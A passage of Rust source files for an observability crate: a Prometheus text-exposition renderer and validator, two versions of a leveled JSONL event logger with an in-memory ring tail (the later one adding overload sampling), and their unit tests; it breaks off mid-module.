        let no_name = r#"{"rules":[{"kind":"gauge","metric":"m","max":1}]}"#;
        assert!(parse_rules(no_name).unwrap_err().contains("name"));
        let nan_bound = r#"{"rules":[{"name":"x","kind":"gauge","metric":"m","max":"wat"}]}"#;
        assert!(parse_rules(nan_bound).unwrap_err().contains("finite"));
    }

    #[test]
    fn report_renders_verdicts_and_counts_violations() {
        let rules = AlertRules {
            rules: vec![
                AlertRule {
                    name: "ok-rule".to_owned(),
                    predicate: Predicate::Gauge {
                        metric: "c".to_owned(),
                    },
                    min: Some(1.0),
                    max: None,
                },
                AlertRule {
                    name: "bad-rule".to_owned(),
                    predicate: Predicate::Gauge {
                        metric: "c".to_owned(),
                    },
                    min: None,
                    max: Some(1.0),
                },
            ],
            window_s: None,
        };
        let report = evaluate(&rules, &[rec(0, 1_000, &[("c", 3)], &[])]);
        assert_eq!(report.violations(), 1);
        assert!(!report.passed());
        let text = report.to_string();
        assert!(text.contains("FAIL  bad-rule"), "{text}");
        assert!(text.contains("ok    ok-rule"), "{text}");
        assert!(text.contains("FAILED (1 of 2"), "{text}");
    }
}
