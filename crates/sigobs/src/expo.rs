//! Prometheus text exposition of a [`sigtrace::MetricsSnapshot`].
//!
//! The daemon has no HTTP server (std-only), so the text body rides the
//! NDJSON protocol's `metrics` verb as a string field; the format itself
//! follows the Prometheus text exposition conventions so the body can be
//! dropped into any scrape-file ingester unchanged:
//!
//! ```text
//! # TYPE serve_jobs_accepted counter
//! serve_jobs_accepted 42
//! # TYPE pipeline_p1_us histogram
//! pipeline_p1_us_bucket{le="255"} 3
//! pipeline_p1_us_bucket{le="+Inf"} 3
//! pipeline_p1_us_sum 512
//! pipeline_p1_us_count 3
//! ```
//!
//! Histogram `le` labels are the **inclusive** upper bound of each log₂
//! bucket (`0` for the zero bucket, `2^i - 1` for bucket `i`), matching
//! [`HistogramSnapshot::percentile`]'s estimates, with counts cumulative
//! as Prometheus requires. Only occupied buckets are emitted (plus the
//! mandatory `+Inf`), keeping the dump proportional to live data.

use sigtrace::{HistogramSnapshot, MetricsSnapshot};
use std::fmt::Write as _;

/// Rewrites a registry name into the Prometheus metric-name alphabet
/// (`[a-zA-Z_:][a-zA-Z0-9_:]*`). Registry names are already ASCII
/// snake_case, so this is belt-and-braces for user-supplied names.
fn sanitize(name: &str) -> String {
    let mut out = String::with_capacity(name.len());
    for (i, c) in name.chars().enumerate() {
        let ok = c.is_ascii_alphabetic()
            || c == '_'
            || c == ':'
            || (i > 0 && c.is_ascii_digit());
        out.push(if ok { c } else { '_' });
    }
    if out.is_empty() {
        out.push('_');
    }
    out
}

fn write_histogram(out: &mut String, h: &HistogramSnapshot) {
    let name = sanitize(&h.name);
    let _ = writeln!(out, "# TYPE {name} histogram");
    let mut cumulative = 0u64;
    for (i, &c) in h.buckets.iter().enumerate() {
        if c == 0 {
            continue;
        }
        cumulative += c;
        match HistogramSnapshot::bucket_limit(i) {
            // Inclusive upper bound: the zero bucket holds only 0, and
            // bucket i holds values up to 2^i - 1.
            Some(limit) => {
                let _ = writeln!(out, "{name}_bucket{{le=\"{}\"}} {cumulative}", limit - 1);
            }
            None => {} // the overflow bucket is covered by +Inf below
        }
    }
    let _ = writeln!(out, "{name}_bucket{{le=\"+Inf\"}} {}", h.count);
    let _ = writeln!(out, "{name}_sum {}", h.sum);
    let _ = writeln!(out, "{name}_count {}", h.count);
}

/// Renders a snapshot as a Prometheus text-format body. Counters and
/// histograms come out in the snapshot's name-sorted order, so equal
/// snapshots render byte-identically.
pub fn prometheus_text(snap: &MetricsSnapshot) -> String {
    let mut out = String::new();
    for (name, value) in &snap.counters {
        let name = sanitize(name);
        let _ = writeln!(out, "# TYPE {name} counter");
        let _ = writeln!(out, "{name} {value}");
    }
    for h in &snap.histograms {
        write_histogram(&mut out, h);
    }
    out
}

fn is_metric_name(s: &str) -> bool {
    let mut chars = s.chars();
    match chars.next() {
        Some(c) if c.is_ascii_alphabetic() || c == '_' || c == ':' => {}
        _ => return false,
    }
    chars.all(|c| c.is_ascii_alphanumeric() || c == '_' || c == ':')
}

/// Checks one `name{labels} value` sample line; returns an error naming
/// the defect.
fn check_sample(line: &str) -> Result<(), String> {
    // Split off the optional {labels} block first, so label values may
    // contain spaces.
    let (name_part, rest) = match line.find('{') {
        Some(open) => {
            let close = line
                .rfind('}')
                .ok_or_else(|| format!("unterminated label block: {line}"))?;
            if close < open {
                return Err(format!("malformed label block: {line}"));
            }
            let labels = &line[open + 1..close];
            for pair in labels.split(',').filter(|p| !p.is_empty()) {
                let (k, v) = pair
                    .split_once('=')
                    .ok_or_else(|| format!("label without '=': {line}"))?;
                if !is_metric_name(k.trim()) {
                    return Err(format!("bad label name {k:?}: {line}"));
                }
                let v = v.trim();
                if !(v.starts_with('"') && v.ends_with('"') && v.len() >= 2) {
                    return Err(format!("unquoted label value {v:?}: {line}"));
                }
            }
            (&line[..open], line[close + 1..].trim())
        }
        None => {
            let (name, value) = line
                .split_once(' ')
                .ok_or_else(|| format!("sample without value: {line}"))?;
            (name, value.trim())
        }
    };
    if !is_metric_name(name_part.trim()) {
        return Err(format!("bad metric name {:?}: {line}", name_part.trim()));
    }
    let value = rest;
    let ok = matches!(value, "+Inf" | "-Inf" | "NaN") || value.parse::<f64>().is_ok();
    if !ok {
        return Err(format!("unparseable sample value {value:?}: {line}"));
    }
    Ok(())
}

/// Validates a Prometheus text body line by line: every line must be
/// blank, a `#` comment, or a well-formed `name[{labels}] value` sample.
/// Returns the number of sample lines on success — the CI smoke test
/// asserts it is nonzero.
pub fn validate_prometheus_text(text: &str) -> Result<usize, String> {
    let mut samples = 0usize;
    for line in text.lines() {
        let line = line.trim_end();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        check_sample(line)?;
        samples += 1;
    }
    Ok(samples)
}

#[cfg(test)]
mod tests {
    use super::*;
    use sigtrace::MetricsRegistry;

    fn sample_snapshot() -> MetricsSnapshot {
        let reg = MetricsRegistry::new();
        reg.add("serve_jobs_accepted", 42);
        reg.add("serve_cache_hits", 7);
        for v in [0u64, 5, 5, 200, 1_000_000] {
            reg.record("pipeline_p1_us", v);
        }
        reg.snapshot()
    }

    #[test]
    fn counters_render_with_type_comments() {
        let text = prometheus_text(&sample_snapshot());
        assert!(text.contains("# TYPE serve_jobs_accepted counter\nserve_jobs_accepted 42\n"));
        assert!(text.contains("serve_cache_hits 7\n"));
    }

    #[test]
    fn histogram_buckets_are_cumulative_with_inclusive_le() {
        let text = prometheus_text(&sample_snapshot());
        assert!(text.contains("# TYPE pipeline_p1_us histogram"));
        // 0 → le="0" (1), two 5s → le="7" (3 cumulative), 200 → le="255"
        // (4), 1e6 → le="1048575" (5).
        assert!(text.contains("pipeline_p1_us_bucket{le=\"0\"} 1\n"), "{text}");
        assert!(text.contains("pipeline_p1_us_bucket{le=\"7\"} 3\n"), "{text}");
        assert!(text.contains("pipeline_p1_us_bucket{le=\"255\"} 4\n"), "{text}");
        assert!(text.contains("pipeline_p1_us_bucket{le=\"1048575\"} 5\n"), "{text}");
        assert!(text.contains("pipeline_p1_us_bucket{le=\"+Inf\"} 5\n"), "{text}");
        assert!(text.contains("pipeline_p1_us_sum 1000210\n"), "{text}");
        assert!(text.contains("pipeline_p1_us_count 5\n"), "{text}");
    }

    #[test]
    fn rendered_text_validates() {
        let text = prometheus_text(&sample_snapshot());
        let samples = validate_prometheus_text(&text).expect("own output must validate");
        // 2 counters + 5 bucket lines (4 finite + Inf) + sum + count.
        assert_eq!(samples, 2 + 5 + 2);
    }

    #[test]
    fn equal_snapshots_render_byte_identically() {
        assert_eq!(
            prometheus_text(&sample_snapshot()),
            prometheus_text(&sample_snapshot())
        );
    }

    #[test]
    fn validator_rejects_malformed_lines() {
        assert!(validate_prometheus_text("no_value_here\n").is_err());
        assert!(validate_prometheus_text("name{unclosed 3\n").is_err());
        assert!(validate_prometheus_text("name{le=unquoted} 3\n").is_err());
        assert!(validate_prometheus_text("9starts_with_digit 3\n").is_err());
        assert!(validate_prometheus_text("name notanumber\n").is_err());
        assert_eq!(validate_prometheus_text("# just a comment\n\n"), Ok(0));
        assert_eq!(validate_prometheus_text("x_bucket{le=\"+Inf\"} 3\n"), Ok(1));
    }

    #[test]
    fn sanitize_replaces_invalid_chars() {
        assert_eq!(sanitize("ok_name:v1"), "ok_name:v1");
        assert_eq!(sanitize("bad-name.v1"), "bad_name_v1");
        assert_eq!(sanitize("9leading"), "_leading");
        assert_eq!(sanitize(""), "_");
    }
}
