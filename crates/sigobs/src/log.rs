//! The structured event log: leveled JSONL with an in-memory ring tail.
//!
//! One record per line, compact JSON, schema:
//!
//! ```text
//! {"seq":17,"ts_us":1754556000123456,"level":"info","event":"job_enqueued",
//!  "job":"j-3","name":"addon.js","queue_depth":1}
//! ```
//!
//! `seq` is a per-logger monotone counter assigned under the same lock
//! that orders the writes, so file order equals `seq` order and replay
//! needs no clock assumptions; `ts_us` is wall-clock microseconds since
//! the Unix epoch, for humans and cross-process correlation.

use minijson::Json;
use std::collections::VecDeque;
use std::fmt;
use std::fs::File;
use std::io::{self, BufWriter, Write};
use std::path::Path;
use std::sync::Mutex;
use std::time::{Instant, SystemTime, UNIX_EPOCH};

/// Log severity. Ordered `Error < Warn < Info < Debug`: a logger at
/// level `L` records everything at or above `L`'s severity (i.e. with
/// `level <= L` in this ordering).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Level {
    /// The daemon cannot do what was asked (I/O failures, poisoned state).
    Error,
    /// Degraded but handled: shed jobs, budget aborts, protocol errors.
    Warn,
    /// The job lifecycle: enqueue, dequeue, cache hits, verdicts.
    Info,
    /// High-volume detail: pipeline phase spans, cache inserts.
    Debug,
}

impl Level {
    /// Stable lowercase name used in log records and `--log-level`.
    pub fn name(self) -> &'static str {
        match self {
            Level::Error => "error",
            Level::Warn => "warn",
            Level::Info => "info",
            Level::Debug => "debug",
        }
    }

    /// Parses a `--log-level` flag value.
    pub fn parse(s: &str) -> Option<Level> {
        match s {
            "error" => Some(Level::Error),
            "warn" => Some(Level::Warn),
            "info" => Some(Level::Info),
            "debug" => Some(Level::Debug),
            _ => None,
        }
    }
}

impl fmt::Display for Level {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

/// Number of records the in-memory tail retains by default.
pub const DEFAULT_TAIL_CAP: usize = 128;

struct Inner {
    /// `None` for a ring-only (in-memory) logger.
    file: Option<BufWriter<File>>,
    /// The most recent records, oldest first, as compact JSON lines.
    ring: VecDeque<String>,
    seq: u64,
}

/// A leveled JSONL event logger shared across threads.
///
/// Records below the configured level cost one branch; everything else
/// takes a short lock to serialize, append to the ring, and (if a file
/// is attached) write one line. Lines are flushed eagerly so `tail -f`
/// and post-mortem replay see every completed record.
pub struct EventLog {
    level: Level,
    tail_cap: usize,
    epoch: Instant,
    epoch_unix_us: u64,
    inner: Mutex<Inner>,
}

impl fmt::Debug for EventLog {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("EventLog")
            .field("level", &self.level)
            .field("tail_cap", &self.tail_cap)
            .finish_non_exhaustive()
    }
}

impl EventLog {
    fn new(file: Option<File>, level: Level) -> EventLog {
        let epoch_unix_us = SystemTime::now()
            .duration_since(UNIX_EPOCH)
            .map(|d| u64::try_from(d.as_micros()).unwrap_or(u64::MAX))
            .unwrap_or(0);
        EventLog {
            level,
            tail_cap: DEFAULT_TAIL_CAP,
            epoch: Instant::now(),
            epoch_unix_us,
            inner: Mutex::new(Inner {
                file: file.map(BufWriter::new),
                ring: VecDeque::new(),
                seq: 0,
            }),
        }
    }

    /// A logger appending to `path` (created or truncated), keeping the
    /// ring tail as well.
    pub fn to_file(path: impl AsRef<Path>, level: Level) -> io::Result<EventLog> {
        Ok(EventLog::new(Some(File::create(path)?), level))
    }

    /// A ring-only logger (no file): the tail still feeds `stats`
    /// responses and tests.
    pub fn in_memory(level: Level) -> EventLog {
        EventLog::new(None, level)
    }

    /// Replaces the ring capacity (builder-style; default
    /// [`DEFAULT_TAIL_CAP`]).
    #[must_use]
    pub fn with_tail_cap(mut self, cap: usize) -> EventLog {
        self.tail_cap = cap.max(1);
        self
    }

    /// The logger's level.
    pub fn level(&self) -> Level {
        self.level
    }

    /// Whether records at `level` are kept. Check before assembling
    /// expensive fields.
    #[inline]
    pub fn enabled(&self, level: Level) -> bool {
        level <= self.level
    }

    /// Appends one record. `fields` are emitted after the standard
    /// `seq`/`ts_us`/`level`/`event` header, in the given order.
    pub fn log(&self, level: Level, event: &str, fields: &[(&str, Json)]) {
        if !self.enabled(level) {
            return;
        }
        let ts_us = self
            .epoch_unix_us
            .saturating_add(u64::try_from(self.epoch.elapsed().as_micros()).unwrap_or(u64::MAX));
        let mut inner = self.inner.lock().unwrap_or_else(|e| e.into_inner());
        let mut record = Json::obj();
        record.set("seq", Json::from(inner.seq as f64));
        record.set("ts_us", Json::from(ts_us as f64));
        record.set("level", Json::from(level.name()));
        record.set("event", Json::from(event));
        for (k, v) in fields {
            record.set(k, v.clone());
        }
        inner.seq += 1;
        let line = record.to_string_compact();
        if inner.ring.len() >= self.tail_cap {
            inner.ring.pop_front();
        }
        inner.ring.push_back(line.clone());
        if let Some(file) = &mut inner.file {
            // A full disk must not take the daemon down with it; the
            // ring keeps the record either way.
            let _ = writeln!(file, "{line}");
            let _ = file.flush();
        }
    }

    /// Convenience: an error-level record.
    pub fn error(&self, event: &str, fields: &[(&str, Json)]) {
        self.log(Level::Error, event, fields);
    }

    /// Convenience: a warn-level record.
    pub fn warn(&self, event: &str, fields: &[(&str, Json)]) {
        self.log(Level::Warn, event, fields);
    }

    /// Convenience: an info-level record.
    pub fn info(&self, event: &str, fields: &[(&str, Json)]) {
        self.log(Level::Info, event, fields);
    }

    /// Convenience: a debug-level record.
    pub fn debug(&self, event: &str, fields: &[(&str, Json)]) {
        self.log(Level::Debug, event, fields);
    }

    /// The ring tail as parsed records, oldest first (unparseable lines
    /// — there should be none — surface as plain strings).
    pub fn tail(&self) -> Vec<Json> {
        let inner = self.inner.lock().unwrap_or_else(|e| e.into_inner());
        inner
            .ring
            .iter()
            .map(|line| Json::parse(line).unwrap_or_else(|_| Json::Str(line.clone())))
            .collect()
    }

    /// The ring tail as raw compact JSON lines, oldest first.
    pub fn tail_lines(&self) -> Vec<String> {
        let inner = self.inner.lock().unwrap_or_else(|e| e.into_inner());
        inner.ring.iter().cloned().collect()
    }

    /// Number of records emitted so far (at any level).
    pub fn records_written(&self) -> u64 {
        self.inner.lock().unwrap_or_else(|e| e.into_inner()).seq
    }

    /// Flushes the file sink, if any. Writes already flush per line;
    /// this exists for defensive shutdown paths.
    pub fn flush(&self) {
        let mut inner = self.inner.lock().unwrap_or_else(|e| e.into_inner());
        if let Some(file) = &mut inner.file {
            let _ = file.flush();
        }
    }
}

/// A [`sigtrace::Tracer`] that logs the pipeline's phase spans as
/// debug-level events carrying the owning job's request ID — the bridge
/// that threads sigserve's job IDs into the analysis pipeline.
///
/// Counter deltas are deliberately ignored here: they already flow into
/// the daemon's `MetricsRegistry` via the engine, and duplicating them
/// per job would bloat the log.
pub struct LogTracer<'a> {
    log: &'a EventLog,
    job: &'a str,
    /// Open spans, outermost first: (name, start).
    open: Vec<(String, Instant)>,
}

impl<'a> LogTracer<'a> {
    /// A tracer logging spans on behalf of job `job`.
    pub fn new(log: &'a EventLog, job: &'a str) -> LogTracer<'a> {
        LogTracer {
            log,
            job,
            open: Vec::new(),
        }
    }
}

impl sigtrace::Tracer for LogTracer<'_> {
    fn span_start(&mut self, name: &str) {
        self.open.push((name.to_owned(), Instant::now()));
    }

    fn span_end(&mut self, name: &str) {
        let Some(pos) = self.open.iter().rposition(|(n, _)| n == name) else {
            return; // tolerate protocol slips, like SpanCollector
        };
        let (name, start) = self.open.remove(pos);
        let dur_us = u64::try_from(start.elapsed().as_micros()).unwrap_or(u64::MAX);
        let depth = pos as f64;
        self.log.debug(
            "span",
            &[
                ("job", Json::from(self.job)),
                ("span", Json::from(name)),
                ("depth", Json::from(depth)),
                ("dur_us", Json::from(dur_us as f64)),
            ],
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use sigtrace::Tracer as _;

    #[test]
    fn level_ordering_and_parse() {
        assert!(Level::Error < Level::Warn);
        assert!(Level::Warn < Level::Info);
        assert!(Level::Info < Level::Debug);
        for l in [Level::Error, Level::Warn, Level::Info, Level::Debug] {
            assert_eq!(Level::parse(l.name()), Some(l));
        }
        assert_eq!(Level::parse("verbose"), None);
    }

    #[test]
    fn records_carry_header_and_fields_in_order() {
        let log = EventLog::in_memory(Level::Info);
        log.info("job_enqueued", &[("job", Json::from("j-1")), ("depth", Json::from(2.0))]);
        let tail = log.tail();
        assert_eq!(tail.len(), 1);
        let r = &tail[0];
        assert_eq!(r["seq"].as_f64(), Some(0.0));
        assert_eq!(r["level"], "info");
        assert_eq!(r["event"], "job_enqueued");
        assert_eq!(r["job"], "j-1");
        assert_eq!(r["depth"].as_f64(), Some(2.0));
        assert!(r["ts_us"].as_f64().is_some());
        // Compact single-line form.
        assert!(!log.tail_lines()[0].contains('\n'));
    }

    #[test]
    fn level_filter_drops_below_threshold() {
        let log = EventLog::in_memory(Level::Warn);
        assert!(log.enabled(Level::Error));
        assert!(log.enabled(Level::Warn));
        assert!(!log.enabled(Level::Info));
        log.error("e", &[]);
        log.warn("w", &[]);
        log.info("i", &[]);
        log.debug("d", &[]);
        let events: Vec<String> = log
            .tail()
            .iter()
            .map(|r| r["event"].as_str().unwrap().to_owned())
            .collect();
        assert_eq!(events, ["e", "w"]);
        assert_eq!(log.records_written(), 2);
    }

    #[test]
    fn ring_is_bounded_and_seq_is_monotone() {
        let log = EventLog::in_memory(Level::Info).with_tail_cap(3);
        for i in 0..10 {
            log.info("tick", &[("i", Json::from(i as f64))]);
        }
        let tail = log.tail();
        assert_eq!(tail.len(), 3, "ring keeps only the newest records");
        let seqs: Vec<f64> = tail.iter().map(|r| r["seq"].as_f64().unwrap()).collect();
        assert_eq!(seqs, [7.0, 8.0, 9.0]);
        assert_eq!(log.records_written(), 10);
    }

    #[test]
    fn file_sink_writes_parseable_jsonl() {
        let path = std::env::temp_dir().join(format!(
            "sigobs-test-{}-{}.jsonl",
            std::process::id(),
            std::time::SystemTime::now()
                .duration_since(UNIX_EPOCH)
                .unwrap()
                .as_nanos()
        ));
        let log = EventLog::to_file(&path, Level::Debug).expect("create log");
        log.info("a", &[("k", Json::from("v"))]);
        log.debug("b", &[]);
        log.flush();
        let text = std::fs::read_to_string(&path).expect("read back");
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.len(), 2);
        for line in &lines {
            let r = Json::parse(line).expect("every line parses");
            assert!(r["event"].as_str().is_some());
        }
        std::fs::remove_file(&path).ok();
    }

    #[test]
    fn log_tracer_emits_debug_spans_with_job_id() {
        let log = EventLog::in_memory(Level::Debug);
        let mut t = LogTracer::new(&log, "j-42");
        t.span_start("phase1");
        t.span_start("fixpoint");
        t.span_end("fixpoint");
        t.span_end("phase1");
        t.span_end("never-opened"); // tolerated
        let tail = log.tail();
        assert_eq!(tail.len(), 2, "one record per closed span");
        assert_eq!(tail[0]["event"], "span");
        assert_eq!(tail[0]["span"], "fixpoint");
        assert_eq!(tail[0]["depth"].as_f64(), Some(1.0));
        assert_eq!(tail[0]["job"], "j-42");
        assert_eq!(tail[1]["span"], "phase1");
        assert_eq!(tail[1]["depth"].as_f64(), Some(0.0));
    }

    #[test]
    fn log_tracer_is_silent_below_debug() {
        let log = EventLog::in_memory(Level::Info);
        let mut t = LogTracer::new(&log, "j-1");
        t.span_start("phase1");
        t.span_end("phase1");
        assert!(log.tail().is_empty());
    }
}
