//! The structured event log: leveled JSONL with an in-memory ring tail.
//!
//! One record per line, compact JSON, schema:
//!
//! ```text
//! {"seq":17,"ts_us":1754556000123456,"level":"info","event":"job_enqueued",
//!  "job":"j-3","name":"addon.js","queue_depth":1}
//! ```
//!
//! `seq` is a per-logger monotone counter assigned under the same lock
//! that orders the writes, so file order equals `seq` order and replay
//! needs no clock assumptions; `ts_us` is wall-clock microseconds since
//! the Unix epoch, for humans and cross-process correlation.

//! Under overload the log can also *sample*: a [`SamplePolicy`] names
//! high-cardinality events (e.g. `job_rejected`) that, past a per-window
//! threshold, degrade to 1-in-N — dropped occurrences are counted and
//! declared in periodic `suppressed` records, so the replay validator
//! can reconcile lifecycles against an explicit budget instead of
//! requiring every record. Suppressed events consume **no** sequence
//! number: `seq` stays gap-free and strictly monotone, which is the
//! invariant replay checks.

use minijson::Json;
use std::collections::VecDeque;
use std::fmt;
use std::fs::File;
use std::io::{self, BufWriter, Write};
use std::path::Path;
use std::sync::Mutex;
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

/// Log severity. Ordered `Error < Warn < Info < Debug`: a logger at
/// level `L` records everything at or above `L`'s severity (i.e. with
/// `level <= L` in this ordering).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Level {
    /// The daemon cannot do what was asked (I/O failures, poisoned state).
    Error,
    /// Degraded but handled: shed jobs, budget aborts, protocol errors.
    Warn,
    /// The job lifecycle: enqueue, dequeue, cache hits, verdicts.
    Info,
    /// High-volume detail: pipeline phase spans, cache inserts.
    Debug,
}

impl Level {
    /// Stable lowercase name used in log records and `--log-level`.
    pub fn name(self) -> &'static str {
        match self {
            Level::Error => "error",
            Level::Warn => "warn",
            Level::Info => "info",
            Level::Debug => "debug",
        }
    }

    /// Parses a `--log-level` flag value.
    pub fn parse(s: &str) -> Option<Level> {
        match s {
            "error" => Some(Level::Error),
            "warn" => Some(Level::Warn),
            "info" => Some(Level::Info),
            "debug" => Some(Level::Debug),
            _ => None,
        }
    }
}

impl fmt::Display for Level {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

/// Number of records the in-memory tail retains by default.
pub const DEFAULT_TAIL_CAP: usize = 128;

/// Overload-safe sampling for high-cardinality events.
///
/// Within each `window`, the first `threshold` occurrences of a listed
/// event are logged in full; after that only every `keep_one_in`-th is
/// kept (tagged `"sampled":true`), and the drops accumulate into a
/// `suppressed` record — `{"event":"suppressed","suppressed_event":E,
/// "count":K,"sample_every":N}` — emitted before the next kept record
/// (and on window roll / [`EventLog::flush`]), so the log always
/// declares exactly how many records it dropped.
#[derive(Debug, Clone)]
pub struct SamplePolicy {
    /// Event names the policy applies to. Everything else logs in full.
    pub events: Vec<String>,
    /// Occurrences per window logged in full before sampling kicks in.
    pub threshold: u64,
    /// Past the threshold, keep one record in this many (min 1). The
    /// default rate; [`SamplePolicy::rates`] overrides it per event.
    pub keep_one_in: u64,
    /// Per-event keep rates, parallel to [`SamplePolicy::events`]. A
    /// missing or zero entry falls back to [`SamplePolicy::keep_one_in`],
    /// so a policy built without per-event rates behaves as before.
    pub rates: Vec<u64>,
    /// The rate window. Elapsing it resets the per-window count and
    /// flushes any pending `suppressed` tally.
    pub window: Duration,
}

impl Default for SamplePolicy {
    /// `job_rejected`, 100 full records per 1s window, then 1-in-100.
    fn default() -> SamplePolicy {
        SamplePolicy {
            events: vec!["job_rejected".to_owned()],
            threshold: 100,
            keep_one_in: 100,
            rates: Vec::new(),
            window: Duration::from_secs(1),
        }
    }
}

impl SamplePolicy {
    /// Adds (or, for an already-listed event, retunes) a per-event
    /// sampling rule: past the threshold keep 1-in-`keep_one_in`
    /// records of `event`. This is what the repeatable
    /// `--log-sample EVENT=N` flag builds on.
    pub fn with_rule(mut self, event: &str, keep_one_in: u64) -> SamplePolicy {
        let keep = keep_one_in.max(1);
        match self.events.iter().position(|e| e == event) {
            Some(idx) => {
                if self.rates.len() <= idx {
                    self.rates.resize(self.events.len(), 0);
                }
                self.rates[idx] = keep;
            }
            None => {
                self.rates.resize(self.events.len(), 0);
                self.events.push(event.to_owned());
                self.rates.push(keep);
            }
        }
        self
    }

    /// The effective keep rate for policy event `idx`.
    pub fn rate_of(&self, idx: usize) -> u64 {
        self.rates
            .get(idx)
            .copied()
            .filter(|r| *r > 0)
            .unwrap_or(self.keep_one_in)
            .max(1)
    }
}

/// Per-event sampler bookkeeping (one per `SamplePolicy::events` entry).
#[derive(Debug, Clone, Copy, Default)]
struct SamplerState {
    /// `ts_us` at which the current window opened.
    window_start_us: u64,
    /// Occurrences seen in the current window (kept or not).
    seen_in_window: u64,
    /// Drops not yet declared in a `suppressed` record.
    pending_suppressed: u64,
    /// Lifetime drops (what [`EventLog::suppressed_total`] reports).
    total_suppressed: u64,
}

/// Whether a matched event survives its sampler.
enum Admit {
    /// Within the threshold: log normally.
    Full,
    /// Past the threshold but on the 1-in-N grid: log with `"sampled":true`.
    Sampled,
    /// Dropped: count it, write nothing, consume no `seq`.
    Suppressed,
}

struct Inner {
    /// `None` for a ring-only (in-memory) logger.
    file: Option<BufWriter<File>>,
    /// The most recent records, oldest first, as compact JSON lines.
    ring: VecDeque<String>,
    seq: u64,
    /// Parallel to the sampling policy's `events` list; empty when
    /// sampling is off.
    samplers: Vec<SamplerState>,
}

/// A leveled JSONL event logger shared across threads.
///
/// Records below the configured level cost one branch; everything else
/// takes a short lock to serialize, append to the ring, and (if a file
/// is attached) write one line. Lines are flushed eagerly so `tail -f`
/// and post-mortem replay see every completed record.
pub struct EventLog {
    level: Level,
    tail_cap: usize,
    sample: Option<SamplePolicy>,
    epoch: Instant,
    epoch_unix_us: u64,
    inner: Mutex<Inner>,
}

impl fmt::Debug for EventLog {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("EventLog")
            .field("level", &self.level)
            .field("tail_cap", &self.tail_cap)
            .finish_non_exhaustive()
    }
}

impl EventLog {
    fn new(file: Option<File>, level: Level) -> EventLog {
        let epoch_unix_us = SystemTime::now()
            .duration_since(UNIX_EPOCH)
            .map(|d| u64::try_from(d.as_micros()).unwrap_or(u64::MAX))
            .unwrap_or(0);
        EventLog {
            level,
            tail_cap: DEFAULT_TAIL_CAP,
            sample: None,
            epoch: Instant::now(),
            epoch_unix_us,
            inner: Mutex::new(Inner {
                file: file.map(BufWriter::new),
                ring: VecDeque::new(),
                seq: 0,
                samplers: Vec::new(),
            }),
        }
    }

    /// A logger appending to `path` (created or truncated), keeping the
    /// ring tail as well.
    pub fn to_file(path: impl AsRef<Path>, level: Level) -> io::Result<EventLog> {
        Ok(EventLog::new(Some(File::create(path)?), level))
    }

    /// A ring-only logger (no file): the tail still feeds `stats`
    /// responses and tests.
    pub fn in_memory(level: Level) -> EventLog {
        EventLog::new(None, level)
    }

    /// Replaces the ring capacity (builder-style; default
    /// [`DEFAULT_TAIL_CAP`]).
    #[must_use]
    pub fn with_tail_cap(mut self, cap: usize) -> EventLog {
        self.tail_cap = cap.max(1);
        self
    }

    /// Enables overload sampling (builder-style). `keep_one_in` is
    /// clamped to at least 1.
    #[must_use]
    pub fn with_sampling(mut self, mut policy: SamplePolicy) -> EventLog {
        policy.keep_one_in = policy.keep_one_in.max(1);
        self.inner.get_mut().unwrap_or_else(|e| e.into_inner()).samplers =
            vec![SamplerState::default(); policy.events.len()];
        self.sample = Some(policy);
        self
    }

    /// The active sampling policy, if any.
    pub fn sampling(&self) -> Option<&SamplePolicy> {
        self.sample.as_ref()
    }

    /// Lifetime count of occurrences of `event` dropped by sampling
    /// (declared plus not-yet-declared).
    pub fn suppressed_total(&self, event: &str) -> u64 {
        let Some(policy) = &self.sample else { return 0 };
        let inner = self.inner.lock().unwrap_or_else(|e| e.into_inner());
        policy
            .events
            .iter()
            .zip(&inner.samplers)
            .filter(|(e, _)| e.as_str() == event)
            .map(|(_, s)| s.total_suppressed)
            .sum()
    }

    /// The logger's level.
    pub fn level(&self) -> Level {
        self.level
    }

    /// Whether records at `level` are kept. Check before assembling
    /// expensive fields.
    #[inline]
    pub fn enabled(&self, level: Level) -> bool {
        level <= self.level
    }

    fn now_ts_us(&self) -> u64 {
        self.epoch_unix_us
            .saturating_add(u64::try_from(self.epoch.elapsed().as_micros()).unwrap_or(u64::MAX))
    }

    /// Serializes and appends one record under the (held) lock,
    /// consuming a `seq`. `sampled` adds the `"sampled":true` marker.
    fn write_record(
        &self,
        inner: &mut Inner,
        ts_us: u64,
        level: Level,
        event: &str,
        fields: &[(&str, Json)],
        sampled: bool,
    ) {
        let mut record = Json::obj();
        record.set("seq", Json::from(inner.seq as f64));
        record.set("ts_us", Json::from(ts_us as f64));
        record.set("level", Json::from(level.name()));
        record.set("event", Json::from(event));
        for (k, v) in fields {
            record.set(k, v.clone());
        }
        if sampled {
            record.set("sampled", Json::Bool(true));
        }
        inner.seq += 1;
        let line = record.to_string_compact();
        if inner.ring.len() >= self.tail_cap {
            inner.ring.pop_front();
        }
        inner.ring.push_back(line.clone());
        if let Some(file) = &mut inner.file {
            // A full disk must not take the daemon down with it; the
            // ring keeps the record either way.
            let _ = writeln!(file, "{line}");
            let _ = file.flush();
        }
    }

    /// Declares `count` drops of policy event `idx` with a `suppressed`
    /// record carrying that event's own keep rate.
    fn write_suppressed(&self, inner: &mut Inner, ts_us: u64, idx: usize, count: u64) {
        let (event, keep) = self
            .sample
            .as_ref()
            .map_or(("", 1), |p| (p.events[idx].as_str(), p.rate_of(idx)));
        self.write_record(
            inner,
            ts_us,
            Level::Warn,
            "suppressed",
            &[
                ("suppressed_event", Json::from(event)),
                ("count", Json::from(count as f64)),
                ("sample_every", Json::from(keep as f64)),
            ],
            false,
        );
    }

    /// Runs the sampler for policy event `idx`, declaring any pending
    /// drops that are due. The returned `Admit` says whether the caller
    /// may write the record.
